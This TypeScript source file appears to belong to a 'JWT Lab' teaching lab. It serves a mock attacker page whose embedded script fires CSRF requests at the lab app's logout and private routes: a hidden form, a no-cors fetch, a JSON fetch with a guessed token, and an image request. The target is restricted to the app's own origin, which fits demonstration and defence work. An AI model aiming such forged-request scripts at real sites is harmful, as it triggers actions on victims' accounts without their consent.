import { ApiError } from '../errors/api-error.js';
import type { App } from '../http/typed-app.js';
import { CrossSitePageQuery } from '@jwt-lab/shared';
import type { IsAppPage } from './site-origins.js';

/**
 * The attacker's page: what any site the victim visits could do. Opened with the app's origin as
 * `target`, it fires forged requests at the app's state-changing routes the moment it loads. The
 * lab then reads, from the app, which check refused each one.
 */
export async function crossSitePage(site: App, { isAppPage }: { isAppPage: IsAppPage }) {
  site.get('/', async (_request, reply) => reply.type('text/html; charset=utf-8').send(INDEX_PAGE));

  site.get(
    '/csrf',
    // An HTML page: no JSON response schema; errors still go through the one error handler.
    { schema: { querystring: CrossSitePageQuery } },
    async (request, reply) => {
      const { target, run = 'unlabelled' } = request.query;
      // Only the app's own pages: this demo must not become a tool against other sites.
      if (!isAppPage(target)) throw new ApiError('invalid_request', 'target must be the origin of the JWT Lab page (on loopback, or PUBLIC_URL).');
      return reply
        .header(
          'content-security-policy',
          `default-src 'none'; script-src 'self'; connect-src ${target}; img-src ${target}; form-action ${target}; frame-src ${target}; base-uri 'none'; frame-ancestors 'none'`,
        )
        .header('cache-control', 'no-store')
        .type('text/html; charset=utf-8')
        .send(attackPage(target, run));
    },
  );

  site.get('/csrf.js', async (_request, reply) => reply.type('text/javascript; charset=utf-8').header('cache-control', 'no-store').send(ATTACK_SCRIPT));
}

const INDEX_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Attacker's site (JWT Lab demo)</title></head>
<body><main><h1>The attacker's site</h1>
<p>Part of JWT Lab's attack lab: a different site from the app, on loopback only. It collects what an
injected script steals (<a href="/loot">/loot</a>), replays stolen tokens from its own server, and
serves a page that forges requests to the app. Turn it off with ATTACK_LAB=false.</p></main></body></html>
`;

function attackPage(target: string, run: string): string {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>You won a prize! (the attacker's page)</title></head>
<body data-target="${escapeHtml(target)}" data-run="${escapeHtml(run)}">
<main>
<h1>You won a prize!</h1>
<p>This is the attacker's page of JWT Lab's attack lab, on a different site from the app. Any site you
visit could do what it just did: make your browser send requests to <code>${escapeHtml(target)}</code>.</p>
<h2>Forged requests</h2>
<ol id="attempts"></ol>
<p>Whether they worked is not visible from here. The lab on the app's page shows what the app received and which check refused each one.</p>
<form id="forged-form" method="post" target="sink"><input type="hidden" name="confirm" value="yes"></form>
<iframe name="sink" title="Where the forged form's answer lands" hidden></iframe>
</main>
<script src="/csrf.js"></script>
</body>
</html>
`;
}

/** Runs in the attacker's page; the CSP there allows scripts from the attacker's own origin only. */
const ATTACK_SCRIPT = `'use strict';
const { target, run } = document.body.dataset;
const attempts = document.getElementById('attempts');
const say = (text) => {
  const item = document.createElement('li');
  item.textContent = text;
  attempts.append(item);
};
const at = (path) => target + path + '?run=' + encodeURIComponent(run);

// 1. The classic: a hidden form, submitted at once. A form can send only form or text bodies.
const form = document.getElementById('forged-form');
form.action = at('/api/auth/logout-all');
form.submit();
say('Submitted a hidden form: POST /api/auth/logout-all with a form body, answer into a hidden frame.');

// 2. A fetch the browser sends without asking anyone ("no-cors", a text body); its answer stays hidden.
fetch(at('/api/auth/logout'), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
  () => say('Sent fetch POST /api/auth/logout with a text body (no-cors: the answer is hidden from this page).'),
  () => say('fetch POST /api/auth/logout could not be sent.'),
);

// 3. A JSON fetch with a guessed CSRF token: cross-origin JSON needs the app's permission first (a CORS preflight).
fetch(at('/api/auth/logout-all'), {
  method: 'POST',
  credentials: 'include',
  headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed-token' },
  body: '{}',
}).then(
  (response) => say('JSON fetch POST /api/auth/logout-all was answered ' + response.status + '.'),
  () => say('JSON fetch POST /api/auth/logout-all with X-CSRF-Token: the browser asked the app for permission (preflight), got none, and never sent it.'),
);

// 4. An image: a cross-site GET that needs no permission; SameSite alone decides whether the cookie rides along.
const image = new Image();
image.addEventListener('error', () => say('Image GET /api/private: refused (and it is not an image anyway).'));
image.addEventListener('load', () => say('Image GET /api/private loaded.'));
image.src = at('/api/private');
`;

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
}
